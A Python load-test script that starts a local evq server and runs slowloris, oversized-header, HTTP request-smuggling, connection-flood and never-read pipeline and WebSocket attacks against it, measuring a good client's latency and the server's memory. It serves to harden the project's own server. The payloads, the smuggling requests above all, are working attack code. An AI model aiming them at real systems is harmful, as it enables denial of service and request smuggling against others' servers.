"""The classic attacks on a live ``evq serve``, one at a time, while a well-behaved client
measures its round trips: what each attack costs the server and what answer it gets.

    .venv/bin/python loadtest/attacks.py --seconds 20 --out /tmp/attacks.json
    .venv/bin/python loadtest/attacks.py --attacks smuggling,oversized_headers --seconds 5

For each attack: the good client (one blocking client: put, take, ack, in a loop) runs
``--seconds`` on the quiet server, then ``--seconds`` with the attack running beside it. The
report gives, per attack, the good client's p50/p99 round trip quiet and attacked (and their
ratio), its failures, the gateway process's memory (RSS) before and at its peak, and what the
attacking connections got: a status line, a WebSocket close, a close without an answer
(with how long it took), or nothing yet (still open when the phase ended).

The attacks (each with ``--scale`` connections or requests where it applies):

- ``slowloris_headers``: connections that trickle a request head, one byte a second;
- ``slowloris_body``: connections that send a head and trickle the body it announces;
- ``oversized_headers``: requests with a 64 KiB header, and with 200 headers;
- ``smuggling``: requests with both ``Content-Length`` and ``Transfer-Encoding: chunked``,
  with two different ``Content-Length``, and a chunked body hiding a second request;
- ``connection_flood``: many connections opened at once and held, saying nothing;
- ``pipeline_no_read``: connections that pipeline puts without ever reading a reply;
- ``websocket_no_read``: WebSocket watchers that never read while their key changes.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import functools
import json
import os
import statistics
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import procstat
from served import ROOT, EvqServe

sys.path.insert(0, str(ROOT))

from evq.client import Client

QUEUE = "attacked"
Outcome = Counter[str]


# ---------------------------------------------------------------- the attacks


async def _answer(reader: asyncio.StreamReader, began: float, until: float) -> str:
    """What the server did with an attacking connection by ``until`` (monotonic time)."""
    try:
        line = await asyncio.wait_for(reader.readline(), max(0.01, until - time.monotonic()))
    except TimeoutError:
        return "still open"
    except (ConnectionError, OSError):
        return f"reset after {_bucket(time.monotonic() - began)}"
    if not line:
        return f"closed without an answer after {_bucket(time.monotonic() - began)}"
    return line.decode("latin-1").strip()


def _bucket(seconds: float) -> str:
    return (
        "<1 s"
        if seconds < 1
        else f"{int(seconds)} s"
        if seconds < 10
        else f"{int(seconds // 10) * 10}+ s"
    )


async def _open(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        return await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return None


async def _trickle(port: int, n: int, seconds: float, head: bytes, drip: bytes) -> Outcome:
    """``n`` connections send ``head``, then one byte of ``drip`` a second."""
    until = time.monotonic() + seconds
    outcome: Outcome = Counter()

    async def one() -> None:
        conn = await _open(port)
        if conn is None:
            outcome["not accepted"] += 1
            return
        reader, writer = conn
        began = time.monotonic()
        writer.write(head)
        reading = asyncio.ensure_future(_answer(reader, began, until))
        for byte in drip:
            if reading.done() or time.monotonic() > until:
                break
            try:
                writer.write(bytes([byte]))
            except (ConnectionError, OSError):
                break
            await asyncio.sleep(1.0)
        outcome[await reading] += 1
        writer.close()

    await asyncio.gather(*(one() for _ in range(n)))
    return outcome


async def slowloris_headers(port: int, n: int, seconds: float) -> Outcome:
    head = f"POST /v1/queues/{QUEUE}/messages HTTP/1.1\r\nHost: x\r\n".encode()
    return await _trickle(port, n, seconds, head, b"X-Slow: " + b"a" * 10_000)


async def slowloris_body(port: int, n: int, seconds: float) -> Outcome:
    head = (
        f"POST /v1/queues/{QUEUE}/messages HTTP/1.1\r\nHost: x\r\n"
        "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    ).encode()
    return await _trickle(port, n, seconds, head, b'{"messages": [' + b" " * 99_000)


async def _requests(port: int, requests: list[bytes], seconds: float) -> Outcome:
    """Each request on a connection of its own, over and over for ``seconds``; the answers
    they got."""
    until = time.monotonic() + seconds
    outcome: Outcome = Counter()

    async def one(request: bytes) -> None:
        conn = await _open(port)
        if conn is None:
            outcome["not accepted"] += 1
            return
        reader, writer = conn
        try:
            writer.write(request)
            await writer.drain()
        except (ConnectionError, OSError):
            pass
        outcome[await _answer(reader, time.monotonic(), max(until, time.monotonic() + 5))] += 1
        writer.close()

    while time.monotonic() < until:  # again and again, for the whole phase
        await asyncio.gather(*(one(r) for r in requests))
        await asyncio.sleep(0.05)
    return outcome


async def oversized_headers(port: int, n: int, seconds: float) -> Outcome:
    big = f"POST /v1/queues/{QUEUE}/messages HTTP/1.1\r\nHost: x\r\nX-Big: {'a' * 65536}\r\n"
    many = "GET /v1/queues HTTP/1.1\r\nHost: x\r\n" + "".join(f"X-{i}: v\r\n" for i in range(200))
    body = b'{"messages": [{"body": "x"}]}'
    tail = f"Content-Length: {len(body)}\r\n\r\n".encode() + body
    return await _requests(
        port, [big.encode() + tail, many.encode() + tail] * max(1, n // 2), seconds
    )


async def smuggling(port: int, n: int, seconds: float) -> Outcome:
    body = b'{"messages": [{"body": "x"}]}'
    hidden = b"GET /v1/queues HTTP/1.1\r\nHost: x\r\n\r\n"
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    start = (
        f"POST /v1/queues/{QUEUE}/messages HTTP/1.1\r\nHost: x\r\n"
        "Content-Type: application/json\r\n"
    )
    requests = [
        start.encode()
        + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        + chunked
        + hidden,
        start.encode()
        + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
        + chunked
        + hidden,
        start.encode()
        + b"Content-Length: %d\r\nContent-Length: 4\r\n\r\n" % len(body)
        + body
        + hidden,
        start.encode() + b"Transfer-Encoding: chunked, identity\r\n\r\n" + chunked + hidden,
        start.encode() + b"Content-Length: +%d\r\n\r\n" % len(body) + body,
    ]
    return await _requests(port, requests * max(1, n // len(requests)), seconds)


async def connection_flood(port: int, n: int, seconds: float) -> Outcome:
    until = time.monotonic() + seconds
    conns = await asyncio.gather(*(_open(port) for _ in range(n)))
    outcome: Outcome = Counter()
    outcome["not accepted"] = sum(c is None for c in conns)
    answers = await asyncio.gather(
        *(_answer(c[0], time.monotonic(), until) for c in conns if c is not None)
    )
    outcome.update(answers)
    for c in conns:
        if c is not None:
            c[1].close()
    return outcome


async def pipeline_no_read(port: int, n: int, seconds: float) -> Outcome:
    body = b'{"messages": [{"body": "' + b"p" * 900 + b'"}]}'
    request = (
        f"POST /v1/queues/{QUEUE}/messages HTTP/1.1\r\nHost: x\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    until = time.monotonic() + seconds
    outcome: Outcome = Counter()

    async def one() -> None:
        conn = await _open(port)
        if conn is None:
            outcome["not accepted"] += 1
            return
        _, writer = conn
        sent = 0
        while time.monotonic() < until:
            writer.write(request * 50)
            try:
                await asyncio.wait_for(writer.drain(), max(0.01, until - time.monotonic()))
            except TimeoutError:
                break  # the server stopped reading: TCP holds the client back
            except (ConnectionError, OSError):
                outcome["closed by the server"] += 1
                return
            sent += 50
        outcome[
            f"held back after ~{sent // 1000 * 1000}+ requests" if sent >= 1000 else "held back"
        ] += 1
        writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(n)))
    return outcome


async def websocket_no_read(port: int, n: int, seconds: float) -> Outcome:
    """``n`` watchers of one key that never read, while a writer changes the key with
    32 KiB values as fast as it is answered."""
    import aiohttp

    until = time.monotonic() + seconds
    key = base64.b64encode(os.urandom(16)).decode()
    outcome: Outcome = Counter()
    conns = []
    for _ in range(n):
        conn = await _open(port)
        if conn is None:
            outcome["not accepted"] += 1
            continue
        reader, writer = conn
        writer.write(
            (
                f"GET /v1/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
            ).encode()
        )
        watch = json.dumps({"op": "watch", "key": "attacked-key"}).encode()
        mask = b"\x00\x00\x00\x00"
        writer.write(bytes([0x81, 0x80 | len(watch)]) + mask + watch)
        writer.transport.pause_reading()  # never read: the kernel's buffers fill, then the server's
        conns.append((reader, writer))
    async with aiohttp.ClientSession() as session:
        value = "v" * 32768
        version = 0
        while time.monotonic() < until:
            version += 1
            try:
                async with session.put(
                    f"http://127.0.0.1:{port}/v1/keys/attacked-key",
                    json={"value": [version, value]},
                ) as resp:
                    await resp.read()
            except aiohttp.ClientError:
                outcome["a key write failed"] += 1
            # each watch fires once: watchers that never read never resubscribe either, but
            # the server's sends for the first event and the pings still pile up
    for reader, writer in conns:
        writer.transport.resume_reading()
        outcome[await _answer(reader, time.monotonic(), time.monotonic() + 1)] += 1
        writer.transport.abort()
    return outcome


ATTACKS: dict[str, Callable[[int, int, float], Awaitable[Outcome]]] = {
    "slowloris_headers": slowloris_headers,
    "slowloris_body": slowloris_body,
    "oversized_headers": oversized_headers,
    "smuggling": smuggling,
    "connection_flood": connection_flood,
    "pipeline_no_read": pipeline_no_read,
    "websocket_no_read": websocket_no_read,
}
SCALE = {  # connections (or requests) per attack, at --scale 1
    "slowloris_headers": 500,
    "slowloris_body": 500,
    "oversized_headers": 200,
    "smuggling": 200,
    "connection_flood": 3000,
    "pipeline_no_read": 20,
    "websocket_no_read": 200,
}


# ---------------------------------------------------------------- the well-behaved client


class Prober:
    """One blocking client: put, take, ack, in a loop; each cycle's time."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.times: list[float] = []
        self.failures: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with Client(self.url, timeout=30, retries=0) as client:
            while not self.stop.is_set():
                began = time.perf_counter()
                try:
                    client.put(QUEUE, b"good")
                    taken = client.take(QUEUE, max=1)
                    if taken:
                        client.ack(QUEUE, taken[0])
                except Exception as exc:  # a failure is a finding, recorded
                    self.failures.append(f"{type(exc).__name__}: {exc}")
                    time.sleep(0.1)
                    continue
                self.times.append(time.perf_counter() - began)

    def measure(self, seconds: float, during: Callable[[], None] | None = None) -> dict[str, Any]:
        self.times, self.failures = [], []
        self.stop.clear()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()
        if during is not None:
            during()
        else:
            time.sleep(seconds)
        self.stop.set()
        self.thread.join(60)
        times = sorted(self.times)
        return {
            "cycles": len(times),
            "p50_ms": round(1000 * statistics.median(times), 2) if times else None,
            "p99_ms": round(1000 * times[int(0.99 * (len(times) - 1))], 2) if times else None,
            "failures": len(self.failures),
            "failure_examples": self.failures[:3],
        }


def _gateway_rss(server: EvqServe) -> int:
    return procstat.rss_bytes(server.pid) or 0


def _attack(
    server: EvqServe, name: str, n: int, seconds: float, peak: list[int], outcome: Outcome
) -> None:
    """Run one attack to its end, sampling the gateway's memory meanwhile."""
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], _gateway_rss(server))
            time.sleep(0.2)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        outcome.update(asyncio.run(ATTACKS[name](server.port, n, seconds)))
    finally:
        done.set()
        sampler.join()


def run(attacks: list[str], seconds: float, scale: float, out: Path | None) -> dict[str, Any]:
    results: dict[str, Any] = {}
    with tempfile.TemporaryDirectory(prefix="evq-attacks-") as tmp:
        server = EvqServe(Path(tmp) / "data", Path(tmp) / "serve.log", ["--shards", "1"])
        try:
            server.wait_ready(180)
            with Client(server.url) as client:
                client.create_queue(QUEUE)
            prober = Prober(server.url)
            prober.measure(2)  # warm up
            for name in attacks:
                quiet = prober.measure(seconds)
                rss_before = _gateway_rss(server)
                peak = [rss_before]
                outcome: Outcome = Counter()
                n = max(1, int(SCALE[name] * scale))

                attack = functools.partial(_attack, server, name, n, seconds, peak, outcome)
                attacked = prober.measure(seconds, during=attack)
                ratio = None
                if quiet["p99_ms"] and attacked["p99_ms"]:
                    ratio = round(attacked["p99_ms"] / quiet["p99_ms"], 2)
                results[name] = {
                    "connections": n,
                    "quiet": quiet,
                    "attacked": attacked,
                    "p99_ratio": ratio,
                    "gateway_rss_mib_before": round(rss_before / 2**20, 1),
                    "gateway_rss_mib_peak": round(peak[0] / 2**20, 1),
                    "answers": dict(outcome.most_common()),
                    "server_alive": server.proc.poll() is None,
                }
                print(json.dumps({name: results[name]}), flush=True)
                time.sleep(1)
        finally:
            server.stop()
    report = {"seconds": seconds, "scale": scale, "attacks": results, "command": " ".join(sys.argv)}
    if out is not None:
        out.write_text(json.dumps(report, indent=2))
    return report


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated")
    parser.add_argument("--seconds", type=float, default=20.0, help="each phase's length")
    parser.add_argument("--scale", type=float, default=1.0, help="times the default sizes")
    parser.add_argument("--out", type=Path)
    args = parser.parse_args()
    names = [a for a in args.attacks.split(",") if a]
    unknown = set(names) - set(ATTACKS)
    if unknown:
        parser.error(f"unknown attacks: {', '.join(sorted(unknown))}")
    report = run(names, args.seconds, args.scale, args.out)
    bad = [
        n
        for n, r in report["attacks"].items()
        if r["attacked"]["failures"] or not r["server_alive"]
    ]
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
